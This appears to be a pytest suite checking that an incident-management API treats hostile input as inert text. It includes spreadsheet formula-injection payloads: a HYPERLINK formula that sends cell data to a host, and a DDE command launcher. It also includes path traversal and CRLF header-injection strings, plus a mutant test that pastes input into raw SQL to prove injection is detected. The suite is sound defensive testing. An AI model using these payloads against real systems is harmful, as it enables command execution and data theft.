"""I1, I2, section 6: what is typed into notes, reasons, causes, names and addresses of incidents is text; nothing of it is ever a 500."""

import json
import unicodedata
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
import structlog

from tests.gate.hostile import LOG, SQL, SURROGATE, XSS, raw
from tests.gate.incident_scene import ABSENT, VERBS, act, events, look, planted, row
from tests.gate.whole import Whole
from tests.promises.office import code

FORMULA = {21: '=HYPERLINK("http://127.0.0.1:9/?"&A1,"xem")', 22: "=cmd|' /C calc'!A0", 23: "-1+2", 24: "@SUM(A1)", 25: "\t=1+1", 26: "\r\n=1+1", 27: "＝1+1", 28: '"=1+1'}
PATHS = {30: "../../../../etc/passwd", 31: "..%2f..%2fapp.db", 32: "..\\..\\x", 35: "x\r\nSet-Cookie: a=b"}
TEXTS: dict[str, str] = {str(n): text for which in (XSS, SQL, FORMULA, PATHS, LOG) for n, text in which.items() if isinstance(text, str)} | {
    "66": SURROGATE, "zero width": "a\u200b\u202eb\u2066", "decomposed": "Trươ\u031b\u0300ng", "emoji": "🚒" * 20, "long": "ă" * 20_000, "blank": " \n\t ", "empty": ""}
UNSAYABLE = {"19", "66"}  # NUL, half a letter: refused with a sentence
SOMETHING: dict[str, Any] = {"null": None, "number": 5, "huge": 10**40, "float": 1e308, "true": True, "list": ["x"], "object": {"$ne": None}, "deep": [[[[[[]]]]]]}
FIELDS = {  # verb -> fields that are words
    "acknowledge": ("client", "text", "hours"), "assign": ("client", "text", "to"), "note": ("client", "text", "pictures"), "escalate": ("client", "text", "severity"),
    "resolve": ("client", "text", "cause"), "reopen": ("client", "text"), "start": ("client", "text"), "close": ("client", "text"), "severity": ("client", "severity", "text"),
    "link": ("client", "parent"), "unlink": ("client",), "split": ("client", "schools"), "postmortem": ("client", "text"), "called": ("client", "school", "result", "text"),
}
GOOD: dict[str, dict[str, Any]] = {
    "assign": {"to": "me"}, "note": {"text": "đã gọi"}, "severity": {"severity": "low"}, "postmortem": {"text": "xe cẩu"}, "called": {"school": code(0), "result": "reached"},
    "link": {"parent": ABSENT}, "split": {"schools": [code(0)]},
}
MANUAL = {"category": "flood", "text": "nước vào sân", "severity": "high", "schools": [code(0)]}
OK = {200, 201, 400, 403, 404, 409, 413, 422}


@pytest.fixture(autouse=True)
def calm(whole: Whole) -> Iterator[tuple[list[Any], ...]]:
    """No database refused anything, nobody met what was not foreseen."""
    found: list[str] = []

    def note(context: Any) -> None:
        found.append(f"{type(context.original_exception).__name__}: {context.statement}")

    sa.event.listen(whole.centre.db.engine, "handle_error", note)
    with structlog.testing.capture_logs() as logged:
        yield found, logged
    sa.event.remove(whole.centre.db.engine, "handle_error", note)
    assert not found
    assert not [one for one in logged if one["log_level"] in {"error", "critical"}]


def said(text: str) -> str:
    """What of a text may be told apart when it comes back: edges and lines may have been tidied, letters composed, what nobody sees left out."""
    seen = "".join(c for c in text if c in "\n\t" or unicodedata.category(c) not in {"Cc", "Cf", "Cs", "Zl", "Zp"})
    return "".join(unicodedata.normalize("NFC", seen).split())


def sent(whole: Whole, path: str, body: Any) -> Any:
    """POST as Minh; `body` may hold what JSON should not."""
    answer = whole.ask(whole.same("operator"), f"/api/v1/{path}", method="POST", body=raw(body))
    assert answer.status in OK, (path, answer.status, answer.body[:300])
    if answer.status >= 400:
        assert answer.json["vi"], "a refusal is a sentence"
        assert answer.json["en"]
    return answer


@pytest.mark.parametrize("which", TEXTS)
def test_a_note_is_stored_as_text_and_told_as_text(whole: Whole, which: str) -> None:
    text, own = TEXTS[which], planted(whole, (0,))
    answer = sent(whole, f"incidents/{own}/note", {"text": text, "client": "c"})
    notes = [e["text"] for e in events(whole, own) if e["what"] == "noted"]
    if which in UNSAYABLE | {"blank", "empty"} or answer.status == 413:
        assert answer.status in {400, 413, 422}
        assert notes == []
        return
    if answer.status == 200:
        assert len(notes) == 1
        assert said(text).startswith(said(notes[0])[:4900].rstrip("…"))
        back = look(whole, "operator", f"/{own}")
        assert back.headers["content-type"].startswith("application/json")
        assert notes[0] in [e["text"] for e in back.json["events"]]
        assert look(whole, "operator").status == 200
    else:
        assert answer.status in {400, 422}, "refused with a sentence"
        assert which in {"long", "71", "zero width", "35", "26"}, (which, answer.json)


@pytest.mark.parametrize("verb", VERBS)
@pytest.mark.parametrize("which", TEXTS)
def test_a_word_in_any_field_of_any_verb_is_a_word(whole: Whole, verb: str, which: str) -> None:
    own = planted(whole, (0, 1))
    for field in FIELDS[verb]:
        answer = sent(whole, f"incidents/{own}/{verb}", {**GOOD.get(verb, {}), field: TEXTS[which]})
        assert which not in UNSAYABLE or answer.status == 400, (field, answer.status)
    assert row(whole, own)["kind"] == "single"
    assert look(whole, "operator", f"/{own}").status == 200


@pytest.mark.parametrize("verb", VERBS)
def test_what_is_no_word_where_one_is_due_is_refused(whole: Whole, verb: str) -> None:
    for field in FIELDS[verb]:
        for what, value in SOMETHING.items():
            own = planted(whole, (0, 1))
            answer = sent(whole, f"incidents/{own}/{verb}", {**GOOD.get(verb, {}), field: value})
            assert look(whole, "operator", f"/{own}").status == 200, (field, what, answer.status)
    for body in ([], "x", 5, None, [[]]):
        sent(whole, f"incidents/{planted(whole, (0,))}/{verb}", body)


@pytest.mark.parametrize("which", TEXTS)
def test_by_hand_every_field_is_a_word(whole: Whole, which: str) -> None:
    for field in ("category", "text", "severity", "area", "client", "title", "started_at", "phone", "reporter"):
        answer = sent(whole, "incidents", {**MANUAL, "client": f"{field} {which}"[:50].replace("\0", ""), field: TEXTS[which]})
        assert which not in UNSAYABLE or answer.status == 400, (field, answer.status)
    for value in (TEXTS[which], [TEXTS[which]], [code(0), TEXTS[which]]):
        sent(whole, "incidents", {**MANUAL, "schools": value})
    for address, field in (("silences", "reason"), ("silences", "area"), ("handovers", "text"), ("handover", "text")):
        now = whole.centre.clock()
        answer = whole.ask(whole.same("operator"), f"/api/v1/{address}", method="POST", body=raw({
            "what": "silence", "area": "760", "reason": "bảo trì", "since": now, "until": now + 3600, "text": "ca sáng", field: TEXTS[which]}))
        assert answer.status in OK | {405}, (address, field, answer.status)


@pytest.mark.parametrize("value", [*SOMETHING.values(), -1, 0, 1e12, "x", float("nan")], ids=repr)
def test_by_hand_odd_values_are_refused_or_understood(whole: Whole, value: Any) -> None:
    for field in ("category", "text", "severity", "schools", "area", "started_at", "client"):
        sent(whole, "incidents", {**MANUAL, field: value})


@pytest.mark.parametrize("which", TEXTS)
def test_what_is_asked_in_an_address_is_a_word_like_any_other(whole: Whole, which: str) -> None:
    text = quote(TEXTS[which][:3000], safe="", errors="replace")
    own = planted(whole, (0,))
    for path in ("?state={}", "?area={}", "?state=all&area={}&severity={}&owner={}&text={}&q={}&kind={}", "?since={}", "?before={}&limit={}", "/{}", "/{}/pictures/1", f"/{own}/pictures/{{}}",
                 f"/{own}/{{}}", "/people?q={}"):
        for who in ("operator", "officer"):
            answer = look(whole, who, path.replace("{}", text))
            assert answer.status in {200, 400, 404, 405, 422}, (path, answer.status, answer.body[:200])
            assert answer.status != 200 or isinstance(json.loads(answer.body), list | dict)
    for page in ("/incidents?q={}&area={}&state={}&sort={}&owner={}", "/incidents/{}", f"/incidents/{own}?tab={{}}", "/incidents/{}/calls", "/handover?day={}", "/silences?area={}", "/clocks?area={}&since={}",
                 "/incidents/new?school={}&category={}"):
        answer = whole.ask(whole.same("operator"), page.replace("{}", text))
        assert answer.status in {200, 404}, (page, answer.status)


@pytest.mark.parametrize("number", ["0", "-1", "1e3", "9" * 19, "9" * 40, "１", "0x1", "1.0", " 1", "+1", "%00", "1;2", "null", "NaN"])
def test_a_number_that_is_none_is_no_incident(whole: Whole, number: str) -> None:
    for who in ("operator", "officer"):
        absent = look(whole, who, f"/{ABSENT}")
        answer = look(whole, who, f"/{quote(number, safe='%')}")
        assert answer.status in {404, 400, 422}, (number, answer.status)
        assert act(whole, who, quote(number, safe="%"), "note").status in {404, 400, 422}
        assert absent.status == 404
        assert whole.ask(whole.same(who), f"/incidents/{quote(number, safe='%')}").status == 404


def test_a_megabyte_is_refused_before_it_is_read(whole: Whole) -> None:
    own = planted(whole, (0,))
    for verb in VERBS:
        answer = sent(whole, f"incidents/{own}/{verb}", {"text": "a" * 1_100_000})
        assert (answer.status, answer.json["code"]) == (413, "too_large"), verb
    assert len(events(whole, own)) == 1


@pytest.mark.parametrize("body", [b"", b"{", b"null", b'{"text":"a","text":"b"}', b'{"text":NaN}', b'{"hours":1e999}', b"[" * 20_000, b'{"text":"\\ud800"}', b"\xff\xfe{\x00}\x00", b"\xef\xbb\xbf{}",
                                  b'{"hours":' + b"9" * 5000 + b"}"], ids=lambda b: repr(b[:20]))
def test_a_body_that_is_no_json_of_ours_is_refused(whole: Whole, body: bytes) -> None:
    for path in (f"incidents/{planted(whole, (0,))}/note", "incidents", "incidents/acknowledge"):
        answer = whole.ask(whole.same("operator"), f"/api/v1/{path}", method="POST", body=body)
        assert answer.status in {400, 413, 422}, (path, answer.status)


@pytest.mark.parametrize("hours", [0, -1, 0.001, 25, 1e9, "4", True, None])
def test_an_acknowledgement_lasts_as_long_as_one_may(whole: Whole, hours: Any) -> None:
    own = planted(whole, (0,))
    answer = sent(whole, f"incidents/{own}/acknowledge", {"hours": hours})
    until = row(whole, own)["acknowledged_until"]
    if answer.status == 200:
        assert 0 < until - whole.centre.clock() <= 7 * 86400
    else:
        assert until is None


def test_pictures_that_are_none_are_refused(whole: Whole) -> None:
    own = planted(whole, (0,))
    for body in ({}, {"name": "a.png", "body": "x"}, {"image": "data:image/svg+xml;base64,PHN2Zz4="}, {"body": "A" * 1000, "media_type": "text/html"}, []):
        answer = whole.ask(whole.same("operator"), f"/api/v1/incidents/{own}/pictures", method="POST", body=body)
        assert answer.status in {400, 404, 413, 415, 422}, (body, answer.status, answer.body[:200])
    for media in ("image/png", "image/svg+xml", "text/html"):
        answer = whole.ask(whole.same("operator"), f"/api/v1/incidents/{own}/pictures", method="POST", body=b"\x89PNG\r\n\x1a\n" + b"\0" * 100, headers={"content-type": media})
        assert answer.status in {400, 404, 413, 415, 422}, (media, answer.status, answer.body[:200])


# --- the words one reads are words ---


def test_mutant_a_store_that_pastes_words_into_sql_is_seen(whole: Whole, calm: tuple[list[Any], ...], monkeypatch: pytest.MonkeyPatch) -> None:
    from services import _respond_move, respond
    from store import incident_events

    real = incident_events.append

    def pasted(db: Any, conn: Any, incident_id: int, **told: Any) -> int:
        conn.exec_driver_sql(f"SELECT '{told.get('text', '')}'")
        return real(db, conn, incident_id, **told)

    for where in (incident_events, respond, _respond_move):
        if hasattr(where, "append"):
            monkeypatch.setattr(where, "append", pasted)
    with pytest.raises(AssertionError):
        test_a_note_is_stored_as_text_and_told_as_text(whole, "22")
    assert calm[0], "the database saw it"
    for seen in calm:
        seen.clear()
